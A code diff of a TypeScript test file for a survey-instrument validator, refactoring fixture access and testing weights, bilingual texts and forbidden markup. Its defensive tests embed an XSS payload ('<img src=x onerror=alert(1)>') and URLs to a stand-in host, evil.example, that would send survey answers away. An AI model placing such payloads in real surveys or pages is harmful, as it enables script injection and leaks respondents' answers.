@@ -1,5 +1,7 @@
 import { describe, expect, it } from "vitest";
 import { checkInstrument, describeProblem, PROBLEM_CODES, surveyQuestions, type Problem, type ProblemCode } from "./check";
+import { list, node } from "./testing/json";
+import { isJsonObject, type Json } from "./walk";
 
 // A small valid instrument; each test breaks one thing in a fresh copy.
 const t = (zh: string, en: string) => ({ default: zh, en });
@@ -9,8 +11,6 @@ const LEVEL = [
   { value: 0.2, text: t("差", "Poor") },
   { value: "na", text: t("无法评估", "Cannot judge") },
 ];
-
-type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- survey JSON fixtures, walked freely by the tests
 
 function base(): Json {
   return structuredClone({
@@ -91,7 +91,7 @@ function base(): Json {
   });
 }
 
-const el = (f: Json, name: string) => f.survey.pages[0].elements.find((e: Json) => e.name === name);
+const el = (f: Json, name: string) => node(list(f, "survey.pages.0.elements").find((e) => isJsonObject(e) && e.name === name));
 
 function problems(f: Json): Problem[] {
   const r = checkInstrument(f);
@@ -130,8 +130,8 @@ describe("checkInstrument", () => {
   it("reports zod issues with their paths", () => {
     const f = base();
     f.kind = "quiz";
-    delete f.name.en;
-    f.items[0].weight = 0;
+    delete node(f, "name").en;
+    node(f, "items.0").weight = 0;
     const all = problems(f);
     expect(all).toEqual(
       expect.arrayContaining([
@@ -151,7 +151,7 @@ describe("checkInstrument", () => {
   it("reports unknown fields that zod would silently drop", () => {
     const f = base();
     f.unscord = [];
-    f.items[1].wieght = 1;
+    node(f, "items.1").wieght = 1;
     expectProblem(f, "unknown_field", { path: "unscord" });
     expectProblem(f, "unknown_field", { path: "items[1].wieght" });
   });
@@ -159,7 +159,7 @@ describe("checkInstrument", () => {
   describe("SurveyJS definition (survey-core jsonErrors)", () => {
     it("refuses an unknown question type", () => {
       const f = base();
-      f.survey.pages[0].elements.push({ type: "starrating", name: "q9", title: t("九", "Nine") });
+      list(f, "survey.pages.0.elements").push({ type: "starrating", name: "q9", title: t("九", "Nine") });
       const { zh, en } = expectProblem(f, "survey_unknown_type", {
         path: "survey.pages[0].elements[6].type",
         params: { type: "starrating" },
@@ -187,7 +187,7 @@ describe("checkInstrument", () => {
 
     it("refuses locale in the definition and expressions naming missing questions", () => {
       const f = base();
-      f.survey.locale = "zh-cn";
+      node(f, "survey").locale = "zh-cn";
       el(f, "year").visibleIf = "{q7} = 1";
       expectProblem(f, "survey_locale_forbidden");
       expectProblem(f, "expression_unknown_question", { params: { question: "q7" } });
@@ -197,7 +197,7 @@ describe("checkInstrument", () => {
   describe("indicators and weights", () => {
     it("refuses level-1 weights summing to 0.9", () => {
       const f = base();
-      f.indicators[1].weight = 0.3;
+      node(f, "indicators.1").weight = 0.3;
       const { zh, en } = expectProblem(f, "indicator_weights_sum", { path: "indicators", params: { sum: 0.9 } });
       expect(zh).toBe("indicators：一级指标权重之和为 0.9，应为 1");
       expect(en).toBe("indicators: the level-1 indicator weights sum to 0.9, not 1");
@@ -205,33 +205,33 @@ describe("checkInstrument", () => {
 
     it("refuses children weights that do not sum to 1, within 1e-6", () => {
       const f = base();
-      f.indicators[0].children[1].weight = 0.4;
+      node(f, "indicators.0.children.1").weight = 0.4;
       expectProblem(f, "indicator_children_weights_sum", { path: "indicators[0].children", params: { indicator: "A", sum: 0.9 } });
       const g = base();
-      g.indicators[0].children[0].weight = 0.1 + 0.2; // floating point: 0.30000000000000004
-      g.indicators[0].children[1].weight = 0.7;
+      node(g, "indicators.0.children.0").weight = 0.1 + 0.2; // floating point: 0.30000000000000004
+      node(g, "indicators.0.children.1").weight = 0.7;
       expect(problems(g)).toEqual([]);
     });
 
     it("refuses item weights of a leaf that do not sum to 1", () => {
       const f = base();
-      f.items[3].weight = 0.4;
+      node(f, "items.3").weight = 0.4;
       expectProblem(f, "item_weights_sum", { params: { indicator: "B.1", sum: 0.9 } });
     });
 
     it("refuses duplicate indicator ids", () => {
       const f = base();
-      f.indicators[1].children[0].id = "A.1";
+      node(f, "indicators.1.children.0").id = "A.1";
       expectProblem(f, "duplicate_indicator_id", { path: "indicators[1].children[0].id" });
     });
 
     it("refuses items on unknown or non-leaf indicators, and leaves without items", () => {
       const f = base();
-      f.items[0].indicator = "A.9";
+      node(f, "items.0").indicator = "A.9";
       expectProblem(f, "item_indicator_unknown", { path: "items[0].indicator", params: { indicator: "A.9" } });
       expectProblem(f, "indicator_without_items", { params: { indicator: "A.1" } });
       const g = base();
-      g.items[1].indicator = "A";
+      node(g, "items.1").indicator = "A";
       expectProblem(g, "item_indicator_not_leaf", { path: "items[1].indicator" });
     });
   });
@@ -239,37 +239,37 @@ describe("checkInstrument", () => {
   describe("items and questions", () => {
     it("refuses an item pointing to a missing question", () => {
       const f = base();
-      f.items[0].question = "q_missing";
+      node(f, "items.0").question = "q_missing";
       const { en } = expectProblem(f, "item_question_missing", { path: "items[0].question", params: { question: "q_missing" } });
       expect(en).toContain("q_missing");
     });
 
     it("refuses a numeric question that is neither mapped nor unscored", () => {
       const f = base();
-      f.survey.pages[0].elements.push({ type: "radiogroup", name: "extra", title: t("附加", "Extra"), choices: LEVEL });
+      list(f, "survey.pages.0.elements").push({ type: "radiogroup", name: "extra", title: t("附加", "Extra"), choices: LEVEL });
       const { zh } = expectProblem(f, "numeric_question_unmapped", { path: "survey.pages[0].elements[6]", params: { question: "extra" } });
       expect(zh).toContain("unscored");
-      f.unscored.push("extra");
+      list(f, "unscored").push("extra");
       expect(problems(f)).toEqual([]);
     });
 
     it("counts a rating as numeric even without rateValues", () => {
       const f = base();
-      f.survey.pages[0].elements.push({ type: "rating", name: "stars", title: t("星级", "Stars") });
+      list(f, "survey.pages.0.elements").push({ type: "rating", name: "stars", title: t("星级", "Stars") });
       expectProblem(f, "numeric_question_unmapped", { params: { question: "stars" } });
     });
 
     it("refuses a scored question with a non-numeric option", () => {
       const f = base();
-      el(f, "q1").choices.push({ value: "unsure", text: t("不确定", "Not sure") });
+      list(el(f, "q1"), "choices").push({ value: "unsure", text: t("不确定", "Not sure") });
       const { en } = expectProblem(f, "option_not_numeric", {
         path: "survey.pages[0].elements[0].choices[4]",
         params: { question: "q1", value: "unsure" },
       });
       expect(en).toContain("only the reserved value na may be non-numeric");
       const g = base();
-      g.unscored.push("stars");
-      g.survey.pages[0].elements.push({
+      list(g, "unscored").push("stars");
+      list(g, "survey.pages.0.elements").push({
         type: "rating",
         name: "stars",
         title: t("星级", "Stars"),
@@ -287,7 +287,7 @@ describe("checkInstrument", () => {
       el(f, "q1").otherText = t("其他", "Other");
       expectProblem(f, "option_not_numeric", { params: { value: "other" } });
       const g = base();
-      g.survey.pages[0].elements[2].columns = [
+      node(g, "survey.pages.0.elements.2").columns = [
         { value: "1", text: t("好", "Good") },
         { value: "0", text: t("差", "Poor") },
       ];
@@ -302,32 +302,32 @@ describe("checkInstrument", () => {
 
     it("refuses scoring a question type that cannot be scored", () => {
       const f = base();
-      f.items[1].question = "note";
+      node(f, "items.1").question = "note";
       expectProblem(f, "item_question_not_scorable", { params: { question: "note", type: "comment" } });
     });
 
     it("requires existing rows for matrix items and maps every row of a scored matrix", () => {
       const f = base();
-      delete f.items[3].row;
+      delete node(f, "items.3").row;
       expectProblem(f, "item_row_required", { path: "items[3]" });
       expectProblem(f, "matrix_row_unmapped", { params: { row: "r2" } });
       const g = base();
-      g.items[3].row = "r9";
+      node(g, "items.3").row = "r9";
       expectProblem(g, "item_row_missing", { path: "items[3].row", params: { row: "r9" } });
       const h = base();
-      h.items[0].row = "r1";
+      node(h, "items.0").row = "r1";
       expectProblem(h, "item_row_unexpected", { path: "items[0].row" });
     });
 
     it("refuses the same question mapped twice, and a question both scored and unscored", () => {
       const f = base();
-      f.items[0].weight = 0.5;
-      f.items.push({ question: "q1", indicator: "A.1", weight: 0.5 });
+      node(f, "items.0").weight = 0.5;
+      list(f, "items").push({ question: "q1", indicator: "A.1", weight: 0.5 });
       expectProblem(f, "duplicate_item", { params: { target: "q1" } });
       const g = base();
-      g.unscored.push("q2");
+      list(g, "unscored").push("q2");
       expectProblem(g, "unscored_but_scored", { params: { question: "q2" } });
-      g.unscored.push("ghost");
+      list(g, "unscored").push("ghost");
       expectProblem(g, "unscored_question_missing", { params: { question: "ghost" } });
     });
 
@@ -339,7 +339,7 @@ describe("checkInstrument", () => {
       el(g, "note").name = "意见";
       expectProblem(g, "question_name_invalid", { params: { question: "意见" } });
       const h = base();
-      el(h, "year").choices[1].value = "y1";
+      node(el(h, "year"), "choices.1").value = "y1";
       expectProblem(h, "duplicate_choice_value", {
         path: "survey.pages[0].elements[4].choices[1]",
         params: { question: "year", value: "y1" },
@@ -363,28 +363,28 @@ describe("checkInstrument", () => {
       const cases: [(f: Json) => void, string, "zh" | "en"][] = [
         [
           (f) => {
-            f.survey.title = { default: "小表" };
+            node(f, "survey").title = { default: "小表" };
           },
           "survey.title.en",
           "en",
         ],
         [
           (f) => {
-            f.survey.completedHtml = { default: "<p>谢谢</p>", en: " " };
+            node(f, "survey").completedHtml = { default: "<p>谢谢</p>", en: " " };
           },
           "survey.completedHtml.en",
           "en",
         ],
         [
           (f) => {
-            f.survey.pages[0].title = { en: "Page one" };
+            node(f, "survey.pages.0").title = { en: "Page one" };
           },
           "survey.pages[0].title.default",
           "zh",
         ],
         [
           (f) => {
-            el(f, "q1").choices[0].text = { default: "优秀" };
+            node(el(f, "q1"), "choices.0").text = { default: "优秀" };
           },
           "survey.pages[0].elements[0].choices[0].text.en",
           "en",
@@ -398,14 +398,14 @@ describe("checkInstrument", () => {
         ],
         [
           (f) => {
-            el(f, "grid").rows[1].text = { default: "行二" };
+            node(el(f, "grid"), "rows.1").text = { default: "行二" };
           },
           "survey.pages[0].elements[2].rows[1].text.en",
           "en",
         ],
         [
           (f) => {
-            el(f, "hours").validators[0].text = { default: "0–40" };
+            node(el(f, "hours"), "validators.0").text = { default: "0–40" };
           },
           "survey.pages[0].elements[3].validators[0].text.en",
           "en",
@@ -429,8 +429,8 @@ describe("checkInstrument", () => {
 
     it("checks matrixdropdown columns, their choices and boolean labels", () => {
       const f = base();
-      f.unscored.push("abilities");
-      f.survey.pages[0].elements.push(
+      list(f, "unscored").push("abilities");
+      list(f, "survey.pages.0.elements").push(
         {
           type: "matrixdropdown",
           name: "abilities",
@@ -458,7 +458,7 @@ describe("checkInstrument", () => {
 
     it("refuses options and questions that would show their raw value", () => {
       const f = base();
-      el(f, "year").choices.push("y3");
+      list(el(f, "year"), "choices").push("y3");
       delete el(f, "note").title;
       expectProblem(f, "text_missing", { path: "survey.pages[0].elements[4].choices[2]", params: { value: "y3" } });
       expectProblem(f, "text_missing", { path: "survey.pages[0].elements[5]", params: { property: "title", value: "note" } });
@@ -471,8 +471,12 @@ describe("no executable markup (instrument files are content, never script)", ()
 
   it("refuses the attack's payload in an html element and in completedHtml, with the path, in both languages", () => {
     const f = base();
-    f.survey.pages[0].elements.push({ type: "html", name: "intro", html: t(`<p>请如实填写</p>${IMG}`, "<p>Please answer honestly</p>") });
-    f.survey.completedHtml = t("<h3>谢谢</h3>", `<h3>Thanks</h3>${IMG}`);
+    list(f, "survey.pages.0.elements").push({
+      type: "html",
+      name: "intro",
+      html: t(`<p>请如实填写</p>${IMG}`, "<p>Please answer honestly</p>"),
+    });
+    node(f, "survey").completedHtml = t("<h3>谢谢</h3>", `<h3>Thanks</h3>${IMG}`);
     const a = expectProblem(f, "markup_not_allowed", { path: "survey.pages[0].elements[6].html.default", params: { markup: "<img>" } });
     expect(a.zh).toContain("survey.pages[0].elements[6].html.default：");
     expect(a.zh).toContain("<img>");
@@ -503,13 +507,13 @@ describe("no executable markup (instrument files are content, never script)", ()
       expectProblem(f, "markup_not_allowed", { path: "survey.pages[0].elements[0].title.default", params: { markup } });
     }
     const f = base();
-    f.indicators[0].name.zh = "<img src=x onerror=alert(1)>";
+    node(f, "indicators.0.name").zh = "<img src=x onerror=alert(1)>";
     expectProblem(f, "markup_not_allowed", { path: "indicators[0].name.zh" });
   });
 
   it("accepts the small set of layout tags with a class, and text that only looks like markup", () => {
     const f = base();
-    f.survey.completedHtml = t(
+    node(f, "survey").completedHtml = t(
       '<h3 class="done">提交成功</h3><p>谢谢<br/>您的参与：<b>匿名</b>、<em>不可追溯</em></p><ul><li>一</li></ul>',
       "<div><strong>Done</strong><br>Thank you</div>",
     );
@@ -519,16 +523,16 @@ describe("no executable markup (instrument files are content, never script)", ()
 
   it("refuses properties that send answers away, navigate, or load from other sites", () => {
     const f = base();
-    f.survey.navigateToUrl = "https://evil.example/?t={q1}";
-    f.survey.surveyPostId = "abc";
+    node(f, "survey").navigateToUrl = "https://evil.example/?t={q1}";
+    node(f, "survey").surveyPostId = "abc";
     el(f, "year").choicesByUrl = { url: "https://evil.example/choices" };
-    f.survey.logo = "https://evil.example/logo.png";
+    node(f, "survey").logo = "https://evil.example/logo.png";
     expectProblem(f, "property_not_allowed", { path: "survey.navigateToUrl", params: { property: "navigateToUrl" } });
     expectProblem(f, "property_not_allowed", { path: "survey.surveyPostId" });
     expectProblem(f, "property_not_allowed", { path: "survey.pages[0].elements[4].choicesByUrl" });
     expectProblem(f, "property_not_allowed", { path: "survey.logo" });
     const ok = base();
-    ok.survey.logo = "data:image/png;base64,iVBORw0KGgo=";
+    node(ok, "survey").logo = "data:image/png;base64,iVBORw0KGgo=";
     expect(problems(ok).filter((p) => p.code === "property_not_allowed")).toEqual([]);
   });
 });
